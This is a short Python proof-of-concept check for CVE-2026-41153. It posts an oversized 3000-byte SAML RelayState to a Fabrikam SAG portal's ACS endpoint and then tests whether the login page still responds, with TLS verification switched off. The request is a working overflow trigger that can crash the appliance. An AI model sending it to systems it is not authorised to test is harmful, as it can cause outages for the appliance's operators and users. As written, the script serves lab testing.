#!/usr/bin/env python3
"""CVE-2026-41153 check: oversized SAML RelayState on Fabrikam SAG.
Sends one POST with a 3000-byte RelayState (no payload), then checks
whether the portal still answers. Lab use only.
Usage: fabrikam-relaystate-overflow.py [host] [port]"""
import http.client
import ssl
import sys
import time
import urllib.parse

host = sys.argv[1] if len(sys.argv) > 1 else "127.0.0.1"
port = int(sys.argv[2]) if len(sys.argv) > 2 else 443
ctx = ssl.create_default_context()
ctx.check_hostname = False  # lab appliances use self-signed certificates
ctx.verify_mode = ssl.CERT_NONE


def request(method, path, body=None):
    conn = http.client.HTTPSConnection(host, port, timeout=15, context=ctx)
    headers = {"Content-Type": "application/x-www-form-urlencoded"}
    try:
        conn.request(method, path, body=body, headers=headers)
        return conn.getresponse().status
    except OSError as e:
        return "no response (%s)" % e.__class__.__name__
    finally:
        conn.close()


form = urllib.parse.urlencode({"SAMLResponse": "UE9D", "RelayState": "A" * 3000})
print("ACS endpoint answered:", request("POST", "/remote/saml/acs", form))
time.sleep(3)
status = request("GET", "/remote/login")
print("portal still answers" if status == 200 else "portal: %s" % status)
